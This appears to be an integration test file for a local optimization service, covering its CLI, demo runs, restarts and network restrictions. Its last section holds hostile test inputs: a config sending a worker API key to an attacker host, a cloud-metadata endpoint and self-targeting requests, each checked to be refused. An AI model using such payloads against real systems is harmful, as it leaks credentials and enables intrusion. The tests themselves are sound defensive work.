/**
 * The local service as a user runs it: `npm start` (scripts/start.mjs), then the runtime demo of docs/runtime.md and the
 * CLI's runtime commands against it; optimization runs on it (the same result as in process, the CLI's --server
 * and runs commands, a restart in the middle of a run).
 */
import { spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { createClient, runOptimization } from "../../src/node/index.js";
import { errorLines } from "../helpers/cli.js";
import { localServiceForFile } from "../helpers/local-service.js";
import { type Finished, runProcess } from "../helpers/process.js";
import { tempDir } from "../helpers/temp.js";

const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const WORKER_SECRET = "sk-worker-secret-never-for-runs-42";

// The watchdog looks every 3 s, so the restart test does not wait long for the messages the stop lost. Runs may
// call a team API on this machine (RUN_ALLOWED_HOSTS); OPENAI_API_KEY is a Worker var no run may read.
const service = localServiceForFile({
  vars: ["RUN_WATCHDOG_SECONDS:3", "RUN_ALLOWED_HOSTS:127.0.0.1", `OPENAI_API_KEY:${WORKER_SECRET}`],
});
const url = () => service().url;

/**
 * Run a script of the package with node, as a user would, without blocking this process (the service's output is
 * read here meanwhile). `seed`: its Math.random is the project's seeded generator (test/helpers/seeded-random.mjs).
 */
function run(args: string[], options: { seed?: number; timeoutMs?: number } = {}): Promise<Finished> {
  const preload = options.seed === undefined ? [] : ["--import", "./test/helpers/seeded-random.mjs"];
  const seed = options.seed === undefined ? {} : { CONVERGENCE_TEST_SEED: String(options.seed) };
  return runProcess(process.execPath, [...preload, ...args], {
    cwd: ROOT,
    env: { ...process.env, CONVERGENCE_URL: url(), ...seed },
    ...(options.timeoutMs ? { timeoutMs: options.timeoutMs } : {}),
  });
}

/**
 * The runtime demo sends 4,000 requests (2,000 select/update rounds) to the service: 15-60 s on a 2-core machine,
 * over 100 s when it is loaded. Its timeout leaves room for slower still; speed is measured by npm run bench:*, not here.
 */
const DEMO_TIMEOUT_MS = 300_000;

describe("npm start", () => {
  it("says where the service runs and the key to call it with", () => {
    expect(service().output()).toContain(`Convergence is running at ${url()}`);
    expect(service().output()).toMatch(/API key \(from \.dev\.vars\): \S+/);
  });

  // The demo's rewards are drawn from a seeded Math.random. Against the service, the Thompson draws are the
  // service's own (unseeded, in workerd); in process, they are seeded too, so that demo is the same on every run.
  it(
    "runs the runtime demo of docs/runtime.md: the 0.7 arm takes at least 80% of the last 1,000 of 2,000 rounds",
    async () => {
      const demo = await run(["examples/runtime_demo.mjs"], { seed: 1, timeoutMs: DEMO_TIMEOUT_MS - 10_000 });
      expect(demo.stderr).toBe("");
      const share = Number(demo.stdout.match(/share: ([\d.]+)%/)?.[1]);
      expect(share).toBeGreaterThanOrEqual(80);
      expect(demo.code).toBe(0);
    },
    DEMO_TIMEOUT_MS,
  );

  it("runs the same demo in-process through the SDK", async () => {
    const demo = await run(["examples/runtime_demo.mjs", "--in-process"], { seed: 2 });
    expect(Number(demo.stdout.match(/share: ([\d.]+)%/)?.[1])).toBeGreaterThanOrEqual(80);
    expect(demo.code).toBe(0);
  });

  it("serves the CLI's runtime commands", async () => {
    const configured = await run(["bin/convergence.js", "runtime", "configure", "cli_system", "examples/runtime_system.yaml"]);
    expect(configured.code).toBe(0);
    expect(JSON.parse(configured.stdout)).toMatchObject({ system: "cli_system", version: 1 });
    const selected = await run(["bin/convergence.js", "runtime", "select", "cli_system", "--user", "ann", "--context", '{"page":"home"}']);
    const selection = JSON.parse(selected.stdout);
    expect(["precise", "balanced", "broad"]).toContain(selection.arm_id);
    const update = (reward: string) =>
      run([
        "bin/convergence.js",
        "runtime",
        "update",
        "cli_system",
        "--user",
        "ann",
        "--decision",
        selection.decision_id,
        "--reward",
        reward,
      ]);
    const updated = await update("1");
    expect(JSON.parse(updated.stdout)).toMatchObject({ success: true, duplicate: false, reward: 1 });
    const arms = JSON.parse((await run(["bin/convergence.js", "runtime", "arms", "cli_system", "--user", "ann"])).stdout);
    expect(arms.find((a: { arm_id: string }) => a.arm_id === selection.arm_id)).toMatchObject({ total_pulls: 1, total_reward: 1 });
    const bad = await update("7");
    expect(bad.code).toBe(2);
    // Each problem once, under the kind of refusal.
    expect(bad.stderr).toBe("convergence: invalid request:\n  reward: Too big: expected number to be <=1\n");
    // The advice names the command that helps, not the HTTP route behind it.
    const unknown = await run(["bin/convergence.js", "runtime", "select", "no_such_system", "--user", "ann"]);
    expect(unknown).toMatchObject({ code: 2, stdout: "" });
    expect(unknown.stderr).toBe(
      "convergence: no system named 'no_such_system': create it with convergence runtime configure no_such_system FILE\n",
    );
  });

  it("forgets a user with `runtime forget`, and refuses a bad user id or an unknown system with a message", async () => {
    const cli = (...args: string[]) => run(["bin/convergence.js", "runtime", ...args]);
    expect((await cli("configure", "cli_forget", "examples/runtime_system.yaml")).code).toBe(0);
    expect((await cli("select", "cli_forget", "--user", "zoe")).code).toBe(0);
    const forgotten = await cli("forget", "--system", "cli_forget", "--user", "zoe");
    expect(forgotten.stderr).toBe("");
    expect(forgotten.code).toBe(0);
    expect(JSON.parse(forgotten.stdout)).toMatchObject({
      system: "cli_forget",
      user_id: "zoe",
      agent_types: ["chat", "default"],
      arms_objects: 1,
      decisions_in_object: 1,
      archive: "tombstoned",
    });
    const again = await cli("forget", "--system", "cli_forget", "--user", "zoe");
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ arms_objects: 0, decisions_in_object: 0, pending_in_log: 0, decisions_in_log: 0 });

    const long = await cli("forget", "--system", "cli_forget", "--user", "x".repeat(257));
    expect(long.code).toBe(2);
    expect(long.stderr).toMatch(/user_id: Too big/);
    const unknown = await cli("forget", "--system", "cli_nowhere", "--user", "zoe");
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/no system named 'cli_nowhere'/);
    const noUser = await cli("forget", "--system", "cli_forget");
    expect(noUser.code).toBe(2);
    expect(noUser.stderr).toMatch(/--user is required/);
  });
});

/** examples/quickstart.yaml with another algorithm: the config the Done-when runs both ways. */
function quickstart(algorithm: string): Record<string, unknown> {
  const config = parse(readFileSync(join(ROOT, "examples/quickstart.yaml"), "utf8")) as { optimization: Record<string, unknown> };
  config.optimization.algorithm = algorithm;
  return config;
}

describe("optimization runs on npm start", () => {
  it("ends an evolution run with the same best config and score as the in-process SDK with the same seed", async () => {
    const config = quickstart("evolution");
    const events: string[] = [];
    const remote = await runOptimization({
      configDict: config,
      seed: 7,
      server: { url: url(), pollMs: 100 },
      onEvent: (e) => events.push(e.type),
    });
    const local = await runOptimization({ configDict: config, seed: 7 });
    if (!remote.success || !local.success) throw new Error(`${remote.error ?? ""} ${local.error ?? ""}`);
    expect(remote.best_config).toEqual(local.best_config);
    expect(remote.best_score).toBe(local.best_score);
    expect(remote.target_calls).toBe(local.target_calls);
    expect(remote.seed).toBe(7);
    expect(events[0]).toBe("run_started");
    expect(events).toContain("generation_finished");
    expect(events.at(-1)).toBe("run_finished");
  });

  it("runs the quickstart with the CLI's --server, lists it, shows it and promotes its best configs", async () => {
    const optimized = await run(["bin/convergence.js", "optimize", "examples/quickstart.yaml", "--server", url()]);
    expect(optimized.stderr).toMatch(/^run quickstart_\d+_[0-9a-f]+ on http/m);
    expect(optimized.stderr).toMatch(/Optimizing with mab_evolution: up to 12 generations of 12 candidates over 3 test cases/);
    expect(optimized.stdout).toMatch(/^Best score: 0\.\d{4}$/m);
    expect(optimized.code).toBe(0);
    const runId = optimized.stdout.match(/run (quickstart_\d+_[0-9a-f]+)/)?.[1] as string;

    const listed = await run(["bin/convergence.js", "runs", "list", "--server", url()]);
    expect(listed.stdout).toContain(`${runId}  succeeded`);
    const shown = JSON.parse((await run(["bin/convergence.js", "runs", "show", runId, "--server", url(), "--json"])).stdout);
    expect(shown).toMatchObject({ run_id: runId, status: "succeeded", result: { success: true, algorithm: "mab_evolution" } });
    const promoted = await run([
      "bin/convergence.js",
      "runs",
      "promote",
      runId,
      "--system",
      "quickstart_arms",
      "--top-k",
      "3",
      "--server",
      url(),
    ]);
    expect(JSON.parse(promoted.stdout)).toMatchObject({ system: "quickstart_arms", version: 1, added: expect.any(Array) });
    expect(JSON.parse(promoted.stdout).added).toHaveLength(3);
    const promoteArgs = ["bin/convergence.js", "runs", "promote", runId, "--system", "quickstart_arms", "--top-k", "3", "--server", url()];
    // Promoting it again changes nothing: no new version of the system.
    expect(JSON.parse((await run(promoteArgs)).stdout)).toEqual({ system: "quickstart_arms", version: 1, added: [] });
    const ofSystem = await run(["bin/convergence.js", "runs", "list", "--system", "quickstart_arms", "--server", url()]);
    expect(ofSystem.stdout.trim().split("\n")).toEqual([expect.stringMatching(new RegExp(`^${runId}  succeeded`))]);

    const missing = await run(["bin/convergence.js", "runs", "show", "no_such_run", "--server", url()]);
    expect(missing).toMatchObject({ code: 2, stderr: "convergence: no run 'no_such_run'\n" });
  });

  it("validates a config as the service would start it, and optimize --server refuses it the same way", async () => {
    const valid = await run(["bin/convergence.js", "validate", "examples/quickstart.yaml", "--server", url()]);
    expect(valid).toMatchObject({ code: 0, stdout: `examples/quickstart.yaml: valid config (as ${url()} would start it)\n` });
    // Valid in process (its ported evaluator is next to it), not on this deployment, which does not bundle it.
    expect((await run(["bin/convergence.js", "validate", "examples/groq/groq_optimization.yaml"])).code).toBe(0);
    const groq = await run(["bin/convergence.js", "validate", "examples/groq/groq_optimization.yaml", "--server", url()]);
    expect(groq.code).toBe(2);
    expect(groq.stdout).toContain(
      "error:   evaluation.custom_evaluator.module: the evaluator module 'groq_responses' is not bundled in this deployment (bundled: text_checks): add it to workers/evaluators/index.ts and redeploy, or serve it over HTTP and set custom_evaluator.url",
    );
    const refused = await run(["bin/convergence.js", "optimize", "examples/groq/groq_optimization.yaml", "--server", url()]);
    expect(refused.code).toBe(2);
    expect(errorLines(refused.stderr)).toEqual(errorLines(groq.stdout));
  });

  it("stops following a run on Ctrl-C, leaving it running, and says how to follow it again", async () => {
    const dir = tempDir("server-sigint");
    const slow = quickstart("evolution") as { api: Record<string, unknown> };
    slow.api.mock_latency_ms = 400;
    writeFileSync(join(dir, "slow.json"), JSON.stringify(slow));
    const child = spawn(process.execPath, ["bin/convergence.js", "optimize", join(dir, "slow.json"), "--server", url()], {
      cwd: ROOT,
      stdio: ["ignore", "pipe", "pipe"],
      timeout: 120_000,
    });
    let stderr = "";
    const started = new Promise<string>((resolve) => {
      child.stderr.setEncoding("utf8").on("data", (chunk: string) => {
        stderr += chunk;
        const id = stderr.match(/^run (\S+) on /m)?.[1];
        if (id) resolve(id);
      });
    });
    const closed = new Promise<number | null>((resolve) => child.on("close", resolve));
    const runId = await started;
    child.kill("SIGINT");
    expect(await closed).toBe(130);
    expect(stderr).toContain(`stopped following run ${runId}; it goes on on ${url()}: convergence runs show ${runId} --server ${url()}`);
    const shown = JSON.parse((await run(["bin/convergence.js", "runs", "show", runId, "--json"])).stdout);
    expect(["queued", "running"]).toContain(shown.status);
    expect((await run(["bin/convergence.js", "runs", "cancel", runId])).code).toBe(0);
  });

  it("refuses an invalid config before anything runs, naming each problem", async () => {
    const dir = tempDir("server-config");
    const bad = quickstart("evolution") as { search_space: { parameters: Record<string, unknown> } };
    bad.search_space.parameters.temperature = { type: "continuous", min: 2, max: 1 };
    writeFileSync(join(dir, "bad.json"), JSON.stringify(bad));
    const refused = await run(["bin/convergence.js", "optimize", join(dir, "bad.json"), "--server", url()]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("search_space.parameters.temperature");
    expect(refused.stdout).toBe("");
  });

  it("resumes a run after the service is stopped mid-run: each evaluation kept once, every call the target received counted", async () => {
    // The team's API, slow enough that calls are in flight when the service stops: it counts what it receives.
    const received: string[] = [];
    const team: Server = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on("data", (chunk: Buffer) => chunks.push(chunk));
      request.on("end", () => {
        received.push((request.headers["x-convergence-run"] as string | undefined) ?? "in process");
        const body = JSON.parse(Buffer.concat(chunks).toString("utf8")) as { model: string; temperature: number; prompt: string };
        const answer = `${body.prompt}: ${body.model} at ${body.temperature}`;
        setTimeout(() => {
          response.writeHead(200, { "content-type": "application/json" });
          response.end(JSON.stringify({ choices: [{ message: { content: answer } }], usage: { prompt_tokens: 3, completion_tokens: 4 } }));
        }, 300);
      });
    });
    await new Promise<void>((resolve) => team.listen(0, "127.0.0.1", resolve));
    const endpoint = `http://127.0.0.1:${(team.address() as AddressInfo).port}/v1/chat`;
    try {
      const config = {
        api: { name: "restart", endpoint, request: { timeout_seconds: 10 } },
        search_space: {
          parameters: {
            model: { type: "categorical", values: ["small", "medium", "large"] },
            temperature: { type: "float", min: 0, max: 1.5, step: 0.05 },
          },
        },
        evaluation: {
          test_cases: {
            inline: ["alpha", "beta", "gamma"].map((w) => ({ id: w, input: { prompt: w }, expected: { contains: ["large at 0.7"] } })),
          },
          metrics: { hit: { type: "contains", weight: 1 } },
        },
        optimization: {
          algorithm: "evolution",
          seed: 3,
          evolution: { population_size: 8, generations: 4 },
          execution: { parallel_workers: 4, max_retries: 0, early_stopping: { enabled: false } },
        },
      };
      const client = createClient({ baseUrl: url() });
      const started = await client.startRun(config);
      let view = started;
      while (view.progress.target_calls < 20) {
        await new Promise((resolve) => setTimeout(resolve, 100));
        view = await client.getRun(started.run_id);
      }
      const callsAtStop = view.progress.target_calls;
      await service().stop({ keepState: true });
      await service().restart();
      const deadline = Date.now() + 120_000;
      while (view.status === "running" && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 250));
        view = await client.getRun(started.run_id);
      }
      expect(view.status).toBe("succeeded");
      expect(view.progress.target_calls).toBeGreaterThan(callsAtStop);
      const evaluations = await client.runEvaluations(started.run_id, { limit: 1000 });
      const keys = evaluations.map((e) => `${e.candidate}|${e.test_case_id}`);
      expect(new Set(keys).size).toBe(keys.length);
      // Every call the target received counts, those in flight when the service stopped and sent again included.
      const receivedByRun = received.filter((run) => run === started.run_id).length;
      expect(view.result?.target_calls).toBe(receivedByRun);
      expect(view.progress.target_calls).toBe(receivedByRun);
      expect(receivedByRun).toBeGreaterThanOrEqual(keys.length);
      // The interruption changes nothing about the outcome: the same evaluations, each once, and the same best.
      const local = await runOptimization({ configDict: config });
      expect(keys).toHaveLength(local.target_calls ?? -1);
      expect(view.result).toMatchObject({ best_config: local.best_config, best_score: local.best_score });
    } finally {
      await new Promise((resolve) => team.close(resolve));
    }
  }, 240_000);
});

/** The team's API on this machine: answers like a chat completion, or redirects; records what it was sent. */
async function teamApi(redirectTo: string) {
  const seen: { path: string; run: string | undefined }[] = [];
  const server: Server = createServer((request, response) => {
    const path = request.url ?? "/";
    seen.push({ path, run: request.headers["x-convergence-run"] as string | undefined });
    request.resume();
    if (path === "/redirect") {
      response.writeHead(307, { location: redirectTo }).end();
      return;
    }
    response.writeHead(200, { "content-type": "application/json" });
    response.end(
      JSON.stringify({ choices: [{ message: { content: "the capital is Tokyo" } }], usage: { prompt_tokens: 3, completion_tokens: 4 } }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { base: `http://127.0.0.1:${port}`, seen, close: () => new Promise((resolve) => server.close(resolve)) };
}

function teamConfig(api: Record<string, unknown>) {
  return {
    api: { name: "reach", request: { timeout_seconds: 5 }, ...api },
    search_space: { parameters: { temperature: { type: "float", min: 0, max: 1, step: 0.5 } } },
    evaluation: {
      test_cases: { inline: [{ id: "capital", input: { prompt: "capital of Japan?" }, expected: { contains: ["Tokyo"] } }] },
      metrics: { hit: { type: "contains", weight: 1 } },
    },
    optimization: { seed: 4, evolution: { population_size: 2, generations: 1 }, execution: { max_retries: 0 } },
  };
}

describe("what a run on npm start may reach", () => {
  async function post(config: unknown, headers: Record<string, string> = {}) {
    const response = await fetch(`${url()}/v1/runs`, {
      method: "POST",
      headers: { authorization: `Bearer ${service().key}`, "content-type": "application/json", ...headers },
      body: JSON.stringify(config),
    });
    const text = await response.text();
    return {
      status: response.status,
      text,
      error: (JSON.parse(text) as { error: { code: string; message: string; details?: object[] } }).error,
    };
  }
  const runCount = async () => (await createClient({ baseUrl: url(), apiKey: service().key }).listRuns({ limit: 200 })).runs.length;

  async function finishedRun(runId: string) {
    const client = createClient({ baseUrl: url(), apiKey: service().key });
    let view = await client.getRun(runId);
    const deadline = Date.now() + 60_000;
    while ((view.status === "running" || view.status === "queued") && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      view = await client.getRun(runId);
    }
    return view;
  }

  it("refuses to send a Worker secret to an attacker's host, naming RUN_SECRET_NAMES, and writes nothing", async () => {
    const before = await runCount();
    const refused = await post(
      teamConfig({ endpoint: "https://attacker.invalid/collect", auth: { type: "bearer", token_env: "OPENAI_API_KEY" } }),
    );
    expect(refused.status).toBe(400);
    expect(refused.error).toMatchObject({
      code: "not_allowed_for_runs",
      message:
        "api.auth.token_env: OPENAI_API_KEY is not allowed for runs on this service: add it to the RUN_SECRET_NAMES var (comma-separated) to allow it",
    });
    expect(refused.text).not.toContain(WORKER_SECRET);
    expect(await runCount()).toBe(before);
  });

  it("refuses a run whose target is the service itself (its own /v1/runs), or the metadata address, before any call", async () => {
    const before = await runCount();
    const own = await post(
      teamConfig({
        endpoint: `${url()}/v1/runs`,
        request: { headers: { authorization: `Bearer ${service().key}` }, body_template: teamConfig({ mock_mode: true }) },
      }),
    );
    expect(own.status).toBe(400);
    expect(own.error.details).toEqual([
      {
        path: "api.endpoint",
        rule: "own_host",
        message: `${url()} is not allowed for runs on this service: it is this service's own host, and a run may not call the service itself; add ${url().slice(7)} to the RUN_ALLOWED_HOSTS var (comma-separated) to allow it anyway`,
      },
    ]);
    const metadata = await post(teamConfig({ endpoint: "http://169.254.169.254/latest/meta-data" }));
    expect(metadata.status).toBe(400);
    expect(metadata.error.details).toEqual([expect.objectContaining({ path: "api.endpoint", rule: "metadata" })]);
    expect(await runCount()).toBe(before);
  });

  it("refuses to start a run from a run's own request", async () => {
    const before = await runCount();
    const refused = await post(teamConfig({ mock_mode: true }), { "X-Convergence-Run": "some_run" });
    expect(refused.status).toBe(403);
    expect(refused.error.code).toBe("run_from_run");
    expect(await runCount()).toBe(before);
  });

  it("calls an allowed team API on this machine, marking each call with the run id, and refuses its redirect to the service", async () => {
    const team = await teamApi(`${url()}/v1/runs`);
    try {
      const client = createClient({ baseUrl: url(), apiKey: service().key });
      const ok = await finishedRun((await client.startRun(teamConfig({ endpoint: `${team.base}/v1/answer` }))).run_id);
      expect(ok.status).toBe("succeeded");
      expect(ok.result).toMatchObject({ success: true, best_score: 1 });
      expect(team.seen.length).toBeGreaterThan(0);
      expect(team.seen.every((r) => r.path === "/v1/answer" && r.run === ok.run_id)).toBe(true);

      const before = await runCount();
      const redirected = await finishedRun((await client.startRun(teamConfig({ endpoint: `${team.base}/redirect` }))).run_id);
      expect(redirected.status).toBe("failed");
      expect(redirected.result?.error).toContain(`a redirect was refused: ${url()} is not allowed for runs on this service`);
      // The redirect was refused before it was followed: the service started no run of the run's.
      expect(await runCount()).toBe(before + 1);
    } finally {
      await team.close();
    }
  });
});
